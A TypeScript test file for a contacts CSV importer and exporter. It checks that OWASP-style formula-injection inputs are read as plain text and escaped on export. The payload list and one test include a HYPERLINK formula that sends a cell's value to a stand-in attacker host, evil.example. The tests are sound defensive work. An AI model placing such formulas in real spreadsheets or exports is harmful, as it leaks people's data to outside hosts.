import Papa from "papaparse";

import { describe, expect, it } from "@atrium/test-kit";
import { csvField, csvRecord } from "@atrium/validation";

import { countCsvRecords, parseContactsCsv } from "./csv.ts";

/** OWASP's formula starts; the lone negative number and the phone are escaped on purpose (decision 0026). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "-5",
  "+15550102030",
];

/** A file as the API's export writes it (BOM, header, csvRecord per contact). */
const exported = (contacts: readonly { name: string; email: string | null; phone: string | null; tags: string }[]) =>
  "\uFEFF" +
  csvRecord(["id", "name", "email", "phone", "tags", "created_at"]) +
  contacts.map((c, i) => csvRecord([`id-${i}`, c.name, c.email, c.phone, c.tags, "2026-03-01T00:00:00.000Z"])).join("");

describe("contacts CSV", () => {
  it("matches columns by loose header names and keeps quoted commas and newlines", () => {
    const parsed = parseContactsCsv(
      '\uFEFFFull Name,E-mail,Mobile,Labels\n"Lovelace, Ada",ada@example.com,+44 20 7946 0958,"vip, london"\n"Two\nLines",,+15550001111,\n\n',
    );
    expect(parsed.columns).toEqual({ name: "Full Name", email: "E-mail", phone: "Mobile", tags: "Labels" });
    expect(parsed.rows).toEqual([
      { name: "Lovelace, Ada", email: "ada@example.com", phone: "+44 20 7946 0958", tags: "vip, london" },
      { name: "Two\nLines", email: null, phone: "+15550001111", tags: null },
    ]);
    expect(parsed.problems).toEqual([]);
  });

  it("says so when neither an e-mail nor a phone column exists", () => {
    expect(parseContactsCsv("name,city\nAda,London\n").problems[0]).toEqual({ kind: "noContactColumn" });
  });

  it("semicolon-separated files work too (delimiter detected)", () => {
    expect(parseContactsCsv("name;email\nAda;ada@example.com\n").rows).toEqual([
      { name: "Ada", email: "ada@example.com", phone: null, tags: null },
    ]);
  });

  it("imports what the API exports, unchanged", () => {
    const csv = exported([
      { name: 'Ada "The Countess"', email: "ada@example.com", phone: "+442079460958", tags: "vip, london" },
    ]);
    expect(parseContactsCsv(csv).rows).toEqual([
      { name: 'Ada "The Countess"', email: "ada@example.com", phone: "+442079460958", tags: "vip, london" },
    ]);
    expect(countCsvRecords(csv)).toBe(1);
  });

  it("reads formula payloads as text, in every column: as written, or as the export's guard wrote them", () => {
    // The export's guard ('=1+1) comes off: every payload, in every column, round-trips.
    const contacts = PAYLOADS.map((p) => ({ name: p, email: p, phone: p, tags: p }));
    const csv = exported(contacts);
    expect(parseContactsCsv(csv).rows).toEqual(
      contacts.map((c) => ({ name: c.name.trim(), email: c.email.trim(), phone: c.phone.trim(), tags: c.tags.trim() })),
    );
    expect(countCsvRecords(csv)).toBe(PAYLOADS.length);
    // Another tool's file, unguarded: the cells stay the text they are (never numbers, never evaluated).
    expect(
      parseContactsCsv('name,email,phone,tags\n=1+1,-5,+15550102030,"=HYPERLINK(""http://evil.example/"",""x"")"\n')
        .rows,
    ).toEqual([{ name: "=1+1", email: "-5", phone: "+15550102030", tags: '=HYPERLINK("http://evil.example/","x")' }]);
    // Only the quote the guard adds comes off.
    expect(parseContactsCsv("name,email\n'quoted,O'Brien@example.com\n").rows).toEqual([
      { name: "'quoted", email: "O'Brien@example.com", phone: null, tags: null },
    ]);
  });

  it("writes cells by papaparse's own rule (escapeFormulae: true)", () => {
    for (const value of [...PAYLOADS, "Ada", "Lovelace, Ada", 'Ada "The Countess"', " padded", "two\nlines", "a-b"]) {
      expect(csvField(value)).toBe(Papa.unparse([[value]], { escapeFormulae: true }));
    }
  });
});
